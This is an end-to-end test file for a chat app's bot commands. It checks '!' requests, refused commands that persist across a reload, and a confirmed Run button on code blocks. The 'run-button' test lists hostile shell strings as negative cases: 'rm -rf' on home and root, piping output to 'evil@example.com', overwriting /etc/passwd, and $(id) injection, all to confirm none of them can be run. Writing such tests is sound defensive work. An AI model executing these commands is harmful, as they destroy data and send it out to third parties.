// e2e tests of bot commands: a "!" request, a refused one (kept after a
// reload), the Run button of a code block, offered only for one plain
// invocation of a declared command and confirmed first. Skipped when no bot
// declares commands.

import {
    assert, openApp, sendText, waitIdle, shot, until, sleep, turn, b64, fake, assertNoProblems, firstBot,
} from './lib.mjs';


export const tests = [
    {
        name: 'commands',
        async fn({ browser, cleanup, skip }) {
            const { ctx, page, rec, problems } = await openApp(browser);
            cleanup(() => ctx.close());
            const hello = rec.got('hello')[0];
            const bot = hello.bots.find((b) => Array.isArray(b.commands) && b.commands.length);
            if (!bot) skip('no bot declares commands');
            if (bot.id !== await firstBot(page)) await page.locator('#bot-list .bot-item', { hasText: bot.id }).click();
            const cmd = bot.commands[0];
            // 1. a "!" command request
            await sendText(page, '!' + cmd);
            const res = await rec.waitGot('command_result', undefined, 15000);
            assert.equal(res.command, cmd);
            await until(async () => (await page.locator('#msg-list .cmd-result').count()) === 1, 5000, 'command result card');
            assert.ok((await page.locator('#msg-list .cmd-result .badge').innerText()).startsWith(res.timed_out ? 'timed out' : 'exit ' + res.exit_code));
            assert.ok(await page.locator('#msg-list .bubble-cmd').isVisible(), 'the request is shown as a command');
            // 2. a refused command
            await waitIdle(page);
            await sendText(page, '!definitely_not_allowed_cmd --now');
            const denied = await rec.waitGot('error', (f) => f.code === 'command_denied', 15000);
            assert.ok(denied);
            await until(async () => (await page.locator('#msg-list .card-error.refusal').count()) === 1, 5000, 'refusal card');
            assert.ok((await page.locator('#msg-list .card-error.refusal').innerText()).includes('command_denied'));
            // ... is kept in the conversation: after a reload (history replaces the
            // list) the request and its refusal are still there, as a refusal card
            await waitIdle(page);
            await page.reload();
            await until(async () => (await page.locator('#msg-list .card-error.refusal').count()) === 1, 10000, 'refusal card after reload');
            assert.ok((await page.locator('#msg-list .card-error.refusal').innerText()).includes('command_denied'));
            const reqs = page.locator('#msg-list .bubble-cmd');
            await until(async () => (await reqs.count()) === 2, 5000, 'both command requests after reload');
            assert.ok((await reqs.last().innerText()).includes('!definitely_not_allowed_cmd --now'), 'the refused request after reload');
            assert.ok((await page.locator('#msg-list .msg-user').last().innerText()).includes('Refused'), 'marked refused');
            // a conversation started by a command is titled from it
            await until(async () => (await page.locator('#chat-title').innerText()) === '!' + cmd, 5000, 'title from the first command');
            // 3. the Run button on a code block naming a declared command
            await waitIdle(page);
            await turn(page, rec, 'Suggest ' + fake({ reply_b64: b64('Try this:\n\n```sh\n' + cmd + '\n```\n'), delay_ms: 5 }));
            await page.locator('#msg-list .codeblock').last().getByRole('button', { name: 'Run ' + cmd }).click();
            await page.locator('#confirm-dialog').getByRole('button', { name: 'Run' }).click();
            const run = await rec.waitPut('run');
            assert.equal(run.command, cmd);
            assert.deepEqual(run.args, []);
            await until(() => rec.got('command_result').length >= 2, 15000, 'second command result');
            await shot(page, 'commands');
            assertNoProblems(problems);
        },
    },
    {
        name: 'run-button',
        async fn({ browser, cleanup, skip }) {
            // Run only for a block that is one plain invocation of a declared
            // command: the server runs it without a shell, so pipes, lists,
            // redirections and substitutions would not do what the block says.
            const { ctx, page, rec, problems } = await openApp(browser);
            cleanup(() => ctx.close());
            const bot = rec.got('hello')[0].bots.find((b) => Array.isArray(b.commands) && b.commands.length);
            if (!bot) skip('no bot declares commands');
            if (bot.id !== await firstBot(page)) await page.locator('#bot-list .bot-item', { hasText: bot.id }).click();
            const c = bot.commands[0];
            const blocks = [
                [c, true], ['$ ' + c + ' "a | b"', true], ['# show it\n' + c, true],
                [c + ' && rm -rf ~', false], [c + ' | mail evil@example.com', false], [c + '; reboot', false],
                [c + ' > /etc/passwd', false], [c + ' $(id)', false], [c + ' "`id`"', false],
                [c + '\nrm -rf /', false], ['not_declared_cmd', false],
            ];
            const reply = blocks.map(([b], i) => 'Block ' + i + ':\n\n```sh\n' + b + '\n```\n').join('\n');
            await turn(page, rec, 'Suggest ' + fake({ reply_b64: b64(reply), delay_ms: 1 }));
            const got = await page.locator('#msg-list .msg-assistant').last().locator('.codeblock').evaluateAll(
                (els) => els.map((e) => !!e.querySelector('.code-btn.run')));
            assert.deepEqual(got, blocks.map(([, run]) => run), 'Run buttons: ' + JSON.stringify(blocks.map(([b]) => b)));
            // The confirmation names exactly what runs; Cancel runs nothing.
            await page.locator('#msg-list .codeblock').nth(1).getByRole('button', { name: /^Run / }).click();
            const dlg = page.locator('#confirm-dialog');
            assert.ok((await dlg.innerText()).includes('$ ' + c + " 'a | b'"), 'the dialog shows the command and its one argument, quoted');
            await dlg.getByRole('button', { name: 'Cancel' }).click();
            await sleep(300);
            assert.equal(rec.put('run').length, 0, 'Cancel sends nothing');
            assertNoProblems(problems);
        },
    },
];
